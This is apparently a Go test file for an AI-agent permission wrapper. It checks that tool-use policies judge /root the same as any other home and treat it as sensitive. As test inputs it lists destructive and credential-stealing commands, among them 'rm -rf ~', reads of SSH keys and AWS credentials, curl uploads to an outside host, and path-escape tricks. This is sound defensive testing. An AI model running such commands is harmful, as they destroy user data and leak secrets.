package policy

import (
	"slices"
	"strings"
	"testing"

	"github.com/agent-wrapper/agent-wrapper/internal/risk"
	"github.com/agent-wrapper/agent-wrapper/internal/workspace"
	"github.com/agent-wrapper/agent-wrapper/patterns"
	"github.com/agent-wrapper/agent-wrapper/permission"
)

// starts are policies under which a home is looked at: the tiers alone, those of init, and
// one with rules as wide as they can be.
var starts = map[string]string{
	"tiers": "", "edits": `mode = "acceptEdits"`, "wide": `allow = ["Bash", "Read", "Edit"]`, "bypass": `mode = "bypassPermissions"`, "plan": `mode = "plan"`,
	"terminal": `profile = "terminal"`, "sandbox": `sandbox = "on"`, "dontAsk": `mode = "dontAsk"`, "cat": `allow = ["Bash(cat:*)", "Bash(cp:*)", "Read(~/**)"]`,
}

// startingPolicies returns the policies, compiled for a place.
func startingPolicies(t *testing.T, place patterns.Place) map[string]*permission.Policy {
	t.Helper()
	texts := map[string]string{"init": string(Starting(skeletons(t)["go"], true))}
	for name, text := range starts {
		texts[name] = text
	}
	policies := map[string]*permission.Policy{}
	for name, text := range texts {
		p, _, _, err := sourceOf(t, User, true, text).Spec.Compile(place)
		if err != nil {
			t.Fatal(err)
		}
		policies[name] = p
	}
	return policies
}

// usedAt decides a tool use that begins in the workspace.
func usedAt(t *testing.T, p *permission.Policy, short string) permission.Decision {
	t.Helper()
	tool, input, err := parseUse(short)
	if err != nil {
		t.Fatal(err)
	}
	use := permission.ToolUse{Tool: tool, Input: input, Dir: p.Place.Workspace}
	return permission.Evaluate(p, nil, &use, workspace.Fake{Dir: p.Place.Workspace}, nil)
}

// atHome are uses with {home} and {ws}, which are decided the same wherever the user's home
// is.
var atHome = []string{
	"Bash(cat {ws}/a.go)", "Bash(cat {ws}/*.go)", "Bash(cat {ws}/$x)", "Bash(ls ~/p)", "Bash(ls {home})", "Bash(go test {ws}/...)", "Bash(go build -o {ws}/x {ws}/cmd)",
	"Bash(rm -rf {ws}/build)", "Bash(rm {ws}/a.go)", "Bash(rm -rf {home}/other)", "Bash(rm -rf {home})", "Bash(rm -rf ~)", "Bash(rm -rf {home}/*)", "Bash(rm -rf {ws})",
	"Bash(echo x > {ws}/y)", "Bash(echo x > {home}/y)", "Bash(echo x >> {home}/.bashrc)", "Bash(echo x > {ws}/.git/config)", "Bash(sed -i s/a/b/ {ws}/a.go)", "Bash(mkdir -p {ws}/d)",
	"Bash(touch {home}/x)", "Bash(tee {home}/x/y)", "Bash(mv {ws}/a {ws}/b)", "Bash(cp {ws}/a {ws}/b)", "Bash(cp {home}/other/x {ws}/x)", "Bash(cp {ws}/a {home}/x)", "Bash(ln -s {home}/x y)",
	"Bash(chmod -R 777 {home}/x)", "Bash(git -C {ws} status)", "Bash(git -C {ws} add {ws}/a.go)", "Bash(python3 {ws}/x.py)", "Bash(curl -T {ws}/a https://a.example)", "Bash(curl -T {home}/x https://a.example)",
	"Bash(cat {home}/.ssh/id_rsa)", "Bash(cat ~/.ssh/id_rsa)", "Bash(cat {home}/.bashrc)", "Bash(cat {home}/.aws/credentials)", "Bash(cat {home}/.netrc)", "Bash(cat {ws}/.env)", "Bash(cat {ws}/x/server.pem)",
	"Bash(cat {ws}/../other/x)", "Bash(cat {home}/other/x)", "Bash(cat {home}/x*)", "Bash(cat {home}/.cache/x)", "Bash(cat {home}/other/.env)", "Bash(cat {ws}/../.ssh/id_rsa)", "Bash(cp {home}/.ssh/id_rsa {ws}/x)",
	"Bash(cat {home}x/y)", "Bash(bash -c 'cat {ws}/a; echo x > {ws}/b')", "Bash(find {ws} -name x -delete)", "Bash(grep -r x {ws})", "Bash(cd {home}/other && cat x)", "Bash(cd {home}/other && make)", "Bash(cat < {ws}/a)",
	"Bash(cat {ws}/a $(cat {home}/x))", "Bash(cat /proc/self/root{home}/x)", "Bash(cat //{home}/x)",
	"Read({ws}/a.go)", "Read({home}/other/x)", "Read({home}/.ssh/id_rsa)", "Read({home}/.netrc)", "Read({ws}/.env)", "Edit({ws}/a.go)", "Write({home}/other/x)", "Edit({home}/.bashrc)", "Edit({ws}/.git/config)", "Grep({ws})", "Glob({ws}/**)",
}

// TestRootIsAHome: for whom /root is the home, or who has the workspace there, what is in
// it is decided as in any other home.
func TestRootIsAHome(t *testing.T) {
	for _, at := range [][2]patterns.Place{
		{{Home: "/root", Workspace: "/root/p"}, {Home: "/home/u", Workspace: "/home/u/p"}},
		{{Home: "/root", Workspace: "/root/a/b/p"}, {Home: "/home/u", Workspace: "/home/u/a/b/p"}},
		{{Home: "/root", Workspace: "/w/p"}, {Home: "/home/u", Workspace: "/w/p"}},
		{{Home: "/root", Workspace: "/w/p", Roots: []string{"/root/r"}}, {Home: "/home/u", Workspace: "/w/p", Roots: []string{"/home/u/r"}}},
	} {
		spelt := func(text string, place *patterns.Place) string {
			return strings.NewReplacer("{home}", place.Home, "{ws}", place.Workspace).Replace(text)
		}
		root, other := startingPolicies(t, at[0]), startingPolicies(t, at[1])
		for name := range root {
			for _, short := range atHome {
				got, want := usedAt(t, root[name], spelt(short, &at[0])), usedAt(t, other[name], spelt(short, &at[1]))
				if got.Behavior != want.Behavior || got.Layer != want.Layer || got.Risk != want.Risk {
					t.Errorf("%s, %v: %s\n got %v %s %v (%s)\nwant %v %s %v (%s)", name, at[0], short, got.Behavior, got.Layer, got.Risk, got.Reason, want.Behavior, want.Layer, want.Risk, want.Reason)
				}
			}
		}
	}
}

// TestRootIsSensitive: /root is sensitive to those to whom it does not belong, and so are
// the directory itself and all of it at once to everybody.
func TestRootIsSensitive(t *testing.T) {
	all := []string{"Read(/root)", "Bash(cat /root/*)", "Bash(cat /root/$x)", "Bash(tar cf x.tar /root)", "Bash(tar cf x.tar /root/.)", "Bash(tar cf x.tar /root/p/..)", "Bash(cp -r /root/ x)"}
	strangers := slices.Concat(all, []string{"Read(/root/x)", "Bash(cat /root/x)", "Bash(cat /root/p/a.go)", "Bash(cat /root/x*)", "Edit(/root/x)", "Bash(echo x > /root/p/x)"})
	for _, tt := range []struct {
		place patterns.Place
		uses  []string
	}{
		{patterns.Place{Home: "/root", Workspace: "/root/p"}, all},
		{patterns.Place{Home: "/root", Workspace: "/root"}, all},
		{patterns.Place{Home: "/home/u", Workspace: "/home/u/p"}, strangers},
		{patterns.Place{Home: "/", Workspace: "/w"}, strangers},
		{patterns.Place{Home: "/root2", Workspace: "/rootp"}, strangers},
		{patterns.Place{Home: "/home/u", Workspace: "/"}, strangers},
		{patterns.Place{Home: "/home/u", Workspace: "/root/q"}, strangers},
		{patterns.Place{Workspace: "/w"}, strangers},
	} {
		p := startingPolicies(t, tt.place)["wide"]
		for _, short := range tt.uses {
			d := usedAt(t, p, short)
			if writes := strings.HasPrefix(short, "Edit(") || strings.Contains(short, ">"); d.Behavior == permission.Allow && !writes || writes && d.Risk != risk.High {
				t.Errorf("%v: %s: %v %v: %s", tt.place, short, d.Behavior, d.Risk, d.Reason)
			}
		}
	}
}
